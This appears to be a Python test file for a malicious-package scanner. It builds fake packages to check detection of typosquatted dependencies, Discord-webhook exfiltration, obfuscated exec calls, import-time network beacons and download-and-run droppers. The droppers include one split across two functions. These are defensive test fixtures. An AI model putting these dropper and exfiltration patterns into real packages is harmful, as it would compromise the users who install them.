"""Scans of packages built here for the shapes real carriers take: dependencies that squat,
code whose threat and capability sit in different files, names disguised from reviewers."""

from __future__ import annotations

from pathlib import Path

from blocking import high
from builders import gzip_bytes, tar_bytes, write, zip_bytes
from finalexam.analyze.behavior.obfuscation import inspect
from finalexam.catalog.manifests import requires_txt, setup_py_requires
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Location, Severity

PLAIN_SETUP = "from setuptools import setup\nsetup(name='tool', version='1.0')\n"


def sdist(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    members = {f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"}
    members.update({f"{name}-1.0/{path}": text for path, text in files.items()})
    return write(tmp_path / f"{name}-1.0.tar.gz", gzip_bytes(tar_bytes(members)))


def test_requirement_names_are_read_without_running_setup_py() -> None:
    assert requires_txt("requests>=2\n\n[dev]\npytest ; python_version>'3'\n") == [
        "requests",
        "pytest",
    ]
    setup = "REQS = ['reqeusts>=2', 'six']\nsetup(name='x', install_requires=REQS)\n"
    assert setup_py_requires(setup) == ["reqeusts", "six"]
    assert setup_py_requires("\ufeff" + setup) == ["reqeusts", "six"]  # a byte order mark
    assert setup_py_requires("setup(install_requires=['numpy'])\n") == ["numpy"]
    assert setup_py_requires("def broken(:\n") == []


def test_dependency_squats_in_requires_txt_and_setup_py_are_reported(tmp_path: Path) -> None:
    squatting = sdist(
        tmp_path,
        "carrier",
        {
            "setup.py": "from setuptools import setup\nsetup(install_requires=['reqeusts'])\n",
            "carrier.egg-info/requires.txt": "numpy\nreqeusts>=2.0\n",
        },
    )
    findings = [f for f in run_exam(squatting, Config()).findings if f.rule_id == "typosquat-name"]
    # two neighbours swapped: a slip of the hand, not a made name (httpx2 would be a lead)
    assert findings and all(f.severity is Severity.HIGH for f in findings)
    assert {f.location.chain[-1] for f in findings if f.location} >= {
        "carrier-1.0/setup.py",
        "carrier-1.0/carrier.egg-info/requires.txt",
    }
    honest = sdist(
        tmp_path,
        "honest",
        {"setup.py": PLAIN_SETUP, "honest.egg-info/requires.txt": "requests\nnumpy\n"},
    )
    assert "typosquat-name" not in {f.rule_id for f in run_exam(honest, Config()).findings}


def test_threat_and_capability_in_different_files_form_a_package_risk(tmp_path: Path) -> None:
    webhook = "https://discord.com/api/webhooks/123456789012345678/" + "a" * 40
    split = sdist(
        tmp_path,
        "split",
        {
            "setup.py": PLAIN_SETUP,
            "split/consts.py": f"HOOK = {webhook!r}\n",
            "split/send.py": "import requests\ndef send(d, u):\n    requests.post(u, json=d)\n",
        },
    )
    found = high(run_exam(split, Config()))
    assert found.get("thr-exfil-endpoint") == "split-1.0/split/consts.py"
    alone = sdist(tmp_path, "alone", {"setup.py": PLAIN_SETUP, "alone/c.py": f"H = {webhook!r}\n"})
    assert "thr-exfil-endpoint" not in high(run_exam(alone, Config()))


def test_disguised_builtin_names_are_obfuscation() -> None:
    where = Location(("x.py",))
    escaped = inspect(where, "z = __import__('\\x7a\\x6c\\x69\\x62')\n", "python")
    assert [f.rule_id for f in escaped] == ["obf-disguised-name"]
    assert escaped[0].severity is Severity.HIGH
    folded = inspect(where, "\u212f\U0001d4cd\u212f\U0001d4b8(payload)\n", "python")
    assert [f.rule_id for f in folded] == ["obf-disguised-name"]
    assert "'exec'" in folded[0].message
    # colour codes and ligatures in comments or strings are ordinary text
    honest = "RESET = '\\x1b[0m'\n# the de\ufb01nition\ntitle = 'de\ufb01ne'\n"
    assert inspect(where, honest, "python") == []


def test_a_top_level_package_named_like_a_popular_distribution(tmp_path: Path) -> None:
    shadowing = sdist(tmp_path, "depconf-probe", {"src/requests/__init__.py": ""})
    assert high(run_exam(shadowing, Config())) == {
        "shadows-popular-package": "depconf-probe-1.0/src/requests/__init__.py"
    }
    own = sdist(tmp_path, "requests", {"src/requests/__init__.py": "", "tests/six/__init__.py": ""})
    assert "shadows-popular-package" not in high(run_exam(own, Config()))


def test_compiled_only_payloads_are_read_from_their_constants(tmp_path: Path) -> None:
    import importlib.util
    import marshal

    from builders import zip_bytes

    payload = (
        "import base64, requests\ndef f(p):\n    exec(base64.b64decode(p))\n"
        "    requests.post('https://discord.com/api/webhooks/123456789012345678/' + 'a' * 40)\n"
    )
    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile(payload, "m.py", "exec"))
    wheel = write(
        tmp_path / "carrier-1.0-py3-none-any.whl",
        zip_bytes(
            {
                "carrier-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: carrier\n",
                "carrier/__init__.py": "from .m import f\n",
                "carrier/m.pyc": pyc,
            }
        ),
    )
    found = high(run_exam(wheel, Config()))
    assert found.get("thr-decoded-exec") == "carrier/m.pyc"
    assert found.get("thr-exfil-endpoint") == "carrier/m.pyc"
    honest = (
        importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile("x = 1\n", "h", "exec"))
    )
    clean = write(
        tmp_path / "clean-1.0-py3-none-any.whl",
        zip_bytes({"clean-1.0.dist-info/METADATA": "Name: clean\n", "clean/h.pyc": honest}),
    )
    assert high(run_exam(clean, Config())) == {}


def test_tests_examples_and_fixtures_are_not_import_time_code(tmp_path: Path) -> None:
    beacon = "import urllib.request\nip = urllib.request.urlopen('https://ident.me').read()\n"
    fixture = "Metadata-Version: 2.1\nName: grammar\nVersion: 1.0\n"
    sources = sdist(
        tmp_path,
        "lib",
        {
            "setup.py": PLAIN_SETUP,
            "examples/resolver.py": beacon,
            "tests/fake_dists/grammar-1.0.dist-info/METADATA": fixture,
        },
    )
    assert high(run_exam(sources, Config())) == {}
    shipped = sdist(tmp_path, "lib2", {"setup.py": PLAIN_SETUP, "lib2/__init__.py": beacon})
    assert high(run_exam(shipped, Config())) == {"thr-import-network": "lib2-1.0/lib2/__init__.py"}


def test_import_time_loader_of_a_caller_named_url_is_not_a_beacon(tmp_path: Path) -> None:
    loader = (
        "import os, urllib.request\n"
        "def _open_file_or_url(fname):\n"
        "    if fname.startswith(('http://', 'https://')):\n"
        "        return urllib.request.urlopen(fname)\n"
        "    return open(fname)\n"
        "def read_config(fname):\n"
        "    with _open_file_or_url(fname) as f:\n"
        "        return f.read()\n"
        "defaults = read_config(os.path.join(os.path.dirname(__file__), 'defaults.cfg'))\n"
    )
    honest = sdist(tmp_path, "cfglib", {"setup.py": PLAIN_SETUP, "cfglib/__init__.py": loader})
    assert high(run_exam(honest, Config())) == {}
    # the same helpers reached with a literal URL do go online at import
    beacon = loader + "remote = read_config('http://203.0.113.9/cfg')\n"
    carrier = sdist(tmp_path, "cfgnet", {"setup.py": PLAIN_SETUP, "cfgnet/__init__.py": beacon})
    assert high(run_exam(carrier, Config())) == {
        "thr-import-network": "cfgnet-1.0/cfgnet/__init__.py"
    }


def test_droppers_on_well_known_hosts_are_not_lowered(tmp_path: Path) -> None:
    """A bucket, a model hub or a code forge hosts droppers as well as anyone: the host
    never lowers download-and-run."""
    hosted = {
        "s3": "https://updates-cdn.s3.amazonaws.com/helper.exe",
        "hf": "https://huggingface.co/someone/tools/resolve/main/helper",
        "forge": "https://raw.githubusercontent.com/someone/tools/main/helper.exe",
    }
    for host, url in hosted.items():
        code = (
            "import os, subprocess, tempfile, urllib.request\n"
            "def refresh():\n"
            f"    target = os.path.join(tempfile.gettempdir(), 'helper-{host}')\n"
            f"    urllib.request.urlretrieve({url!r}, target)\n"
            "    os.chmod(target, 0o755)\n"
            "    subprocess.Popen([target])\n"
        )
        wheel = write(
            tmp_path / f"dl{host}-1.0-py3-none-any.whl",
            zip_bytes(
                {
                    f"dl{host}-1.0.dist-info/METADATA": f"Name: dl{host}\n",
                    f"dl{host}/__init__.py": "from .refresh import refresh\n",
                    f"dl{host}/refresh.py": code,
                }
            ),
        )
        report = run_exam(wheel, Config(disable=("vulnerabilities",)))
        assert high(report).get("thr-fetch-then-run") == f"dl{host}/refresh.py", host
        assert not report.verdict.passed


# A dropper that keeps its download in one function and its run in another: the first
# writes the fetched script to a path it returns, the second starts that path with the
# running interpreter (the shape of kertash 0.1.4, a hash-cracking helper on PyPI)
_SPLIT_DROPPER = """import os, subprocess, sys, tempfile
import requests

TOOL_URL = "https://example.invalid/tool.py"
_session = requests.Session()


def _fetch_tool():
    code = _session.get(TOOL_URL, timeout=15).text
    for target in [os.path.join(tempfile.gettempdir(), ".helper.py")]:
        try:
            with open(target, "w", encoding="utf-8") as f:
                f.write(code)
            return target
        except OSError:
            continue
    return None


def run_helper(argument):
    path = _fetch_tool()
    if path:
        subprocess.Popen([sys.executable, path, argument])
"""


def test_a_download_written_by_one_function_and_run_by_another_is_stopped(
    tmp_path: Path,
) -> None:
    def exam(name: str, code: str) -> dict[str, str]:
        wheel = write(
            tmp_path / f"{name}-1.0-py3-none-any.whl",
            zip_bytes(
                {
                    f"{name}-1.0.dist-info/METADATA": f"Name: {name}\n",
                    f"{name}/__init__.py": "",
                    f"{name}/core.py": code,
                }
            ),
        )
        return high(run_exam(wheel, Config(disable=("vulnerabilities",))))

    assert exam("splitdrop", _SPLIT_DROPPER).get("thr-fetch-then-run") == "splitdrop/core.py"
    # the same file cached and only read back is no run
    cached = _SPLIT_DROPPER.replace(
        "subprocess.Popen([sys.executable, path, argument])",
        "print(open(path, encoding='utf-8').read()[:80], argument)",
    )
    assert "thr-fetch-then-run" not in exam("splitcache", cached)
